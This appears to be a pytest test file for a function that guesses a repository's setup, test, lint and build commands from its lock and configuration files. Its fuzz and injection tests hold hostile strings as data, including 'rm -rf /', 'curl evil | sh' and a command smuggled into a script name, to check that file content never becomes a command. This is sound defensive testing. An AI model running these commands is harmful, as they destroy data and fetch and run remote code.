"""Guessing a repo's commands: by lock files and configuration, with reasons, never by content."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.repos.guesses import Files, guess_commands

T = b"import unittest\n"


@pytest.mark.parametrize(
    ("files", "setup", "test"),
    [
        ({"test_a.py": T}, "", "python3 -m unittest"),
        ({"tests/test_a.py": T}, "", "python3 -m unittest discover -s tests"),
        ({"tests/__init__.py": b"", "tests/test_a.py": T}, "", "python3 -m unittest"),
        ({"a.py": b"x"}, "", ""),
        ({"tests/test_a.py": b"import pytest\n"}, "", "python3 -m pytest -q"),
        (
            {"tests/test_a.py": b"def f():\n    from pytest import raises\n"},
            "",
            "python3 -m pytest -q",
        ),
        ({"tests/test_a.py": b"import pytester\n"}, "", "python3 -m unittest discover -s tests"),
        ({"pyproject.toml": b"[tool.pytest.ini_options]\nx=1\n"}, "", "python3 -m pytest -q"),
        (
            {"pyproject.toml": b"[dependency-groups]\ndev=['pytest>=8']\n", "uv.lock": b""},
            "uv sync --frozen",
            "uv run --frozen python3 -m pytest -q",
        ),
        (
            {"pyproject.toml": b"[project.optional-dependencies]\nt=['pytest-cov']\n"},
            "",
            "python3 -m pytest -q",
        ),
        (
            {
                "pyproject.toml": b"[tool.poetry.group.dev.dependencies]\npytest='*'\n",
                "poetry.lock": None,
            },
            "poetry install --no-interaction",
            "poetry run python3 -m pytest -q",
        ),
        ({"pytest.ini": None}, "", "python3 -m pytest -q"),
        ({"setup.cfg": b"[tool:pytest]\n"}, "", "python3 -m pytest -q"),
        ({"setup.cfg": b"[metadata]\n"}, "", ""),
        ({"conftest.py": None}, "", "python3 -m pytest -q"),
        (
            {"requirements.txt": b"flask\npytest==8\n"},
            "python3 -m pip install -r requirements.txt",
            "python3 -m pytest -q",
        ),
        ({"requirements.txt": b"flask\n"}, "python3 -m pip install -r requirements.txt", ""),
    ],
)
def test_python(files: Files, setup: str, test: str) -> None:
    commands = guess_commands(files)
    assert (commands.line("setup"), commands.line("test")) == (setup, test)


PACKAGE = b'{"scripts": {"test": "jest", "lint": "eslint .", "build": "tsc", "evil": "rm -rf /"}}'


@pytest.mark.parametrize(
    ("lock", "setup", "runner"),
    [
        ("package-lock.json", "npm ci", "npm"),
        ("npm-shrinkwrap.json", "npm ci", "npm"),
        ("yarn.lock", "yarn install --frozen-lockfile", "yarn"),
        ("pnpm-lock.yaml", "pnpm install --frozen-lockfile", "pnpm"),
        ("none", "", "npm"),
    ],
)
def test_node(lock: str, setup: str, runner: str) -> None:
    commands = guess_commands({"package.json": PACKAGE, lock: None})
    assert commands.line("setup") == setup
    assert commands.line("test") == f"{runner} run test"
    assert commands.line("lint") == f"{runner} run lint"
    assert commands.line("build") == f"{runner} run build"


def test_newer_yarn_has_another_option() -> None:
    files: Files = {"package.json": PACKAGE, "yarn.lock": None, ".yarnrc.yml": None}
    assert guess_commands(files).line("setup") == "yarn install --immutable"


def test_npms_placeholder_is_no_test() -> None:
    content = b'{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'
    assert guess_commands({"package.json": content}).guesses == ()


def test_go_and_rust() -> None:
    go = guess_commands({"go.mod": b"", "go.sum": b"", "x/a_test.go": None})
    assert [go.line(name) for name in ("setup", "test", "lint", "build")] == [
        "go mod download",
        "go test ./...",
        "go vet ./...",
        "go build ./...",
    ]
    assert guess_commands({"go.mod": b""}).line("test") == ""
    rust = guess_commands({"Cargo.toml": b"", "Cargo.lock": b""})
    assert rust.line("setup") == "cargo fetch --locked"
    assert rust.line("test") == "cargo test --locked"


def test_a_makefile_fills_gaps_only() -> None:
    makefile = b"test lint: deps\n\t@echo build:\nbuild := x\nsetup::\n\techo\n"
    alone = guess_commands({"Makefile": makefile})
    assert [guess.name for guess in alone.guesses] == ["setup", "test", "lint"]
    beside = guess_commands({"Makefile": makefile, "pytest.ini": b""})
    assert beside.line("test") == "python3 -m pytest -q"
    assert beside.line("lint") == "make lint"


def test_several_languages_are_joined() -> None:
    commands = guess_commands({"pytest.ini": b"", "package.json": PACKAGE, "uv.lock": None})
    assert commands.line("test") == "uv run --frozen python3 -m pytest -q && npm run test"


def test_every_guess_has_its_reason() -> None:
    commands = guess_commands(
        {"uv.lock": b"", "pytest.ini": b"", "ruff.toml": b"", "package.json": PACKAGE}
    )
    assert {guess.name: guess.reason for guess in commands.guesses} == {
        "setup": "uv.lock",
        "test": "pytest.ini; scripts.test in package.json",
        "lint": "ruff.toml; scripts.lint in package.json",
        "build": "scripts.build in package.json",
    }


def test_an_empty_repo_has_no_commands() -> None:
    assert guess_commands({}).guesses == ()
    assert guess_commands({}).as_guessed() == {}


HOSTILE = [
    b"\xff\xfe\x00",
    b"[" * 100_000,
    b"{" * 100_000,
    b'{"scripts": []}',
    b'{"scripts": {"test": 1, "lint": null, "build": ["x"]}}',
    b'["scripts"]',
    b"1" * 10_000,
    b'{"a": ' + b"1" * 10_000 + b"}",
    b"tool = 3\nproject = []\ndependency-groups = 'x'\n",
    b"[project]\ndependencies = 'pytest'\noptional-dependencies = [1]\n",
    b"[tool.poetry]\ngroup = [1]\ndependencies = 3\n",
    b"[tool.poetry.group]\na = 1\n",
    b"\n" * 500_000,
    b" " * 500_000,
    b"x" * 2_000_000,
    b":" * 500_000,
]
NAMES = [
    "pyproject.toml",
    "package.json",
    "Makefile",
    "setup.cfg",
    "tox.ini",
    "requirements.txt",
    "tests/test_a.py",
    "Cargo.toml",
    "go.mod",
    "conftest.py",
    "a\nb/test_x.py",
    "../../test_x.py",
    "",
]


@pytest.mark.parametrize("content", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_content_never_raises(content: bytes) -> None:
    for name in NAMES:
        guess_commands({name: content})


@given(st.dictionaries(st.sampled_from(NAMES) | st.text(), st.none() | st.binary()))
def test_no_files_raise_and_no_content_becomes_a_command(files: dict[str, bytes | None]) -> None:
    for guess in guess_commands(files).guesses:
        assert guess.name in ("setup", "test", "lint", "build")
        assert set(guess.line) <= set("abcdefghijklmnopqrstuvwxyz0123456789 -./&D")


def test_scripts_cannot_smuggle_a_command() -> None:
    content = b'{"scripts": {"test": "x; curl evil | sh", "test; rm -rf /": "x"}}'
    assert [g.line for g in guess_commands({"package.json": content}).guesses] == ["npm run test"]
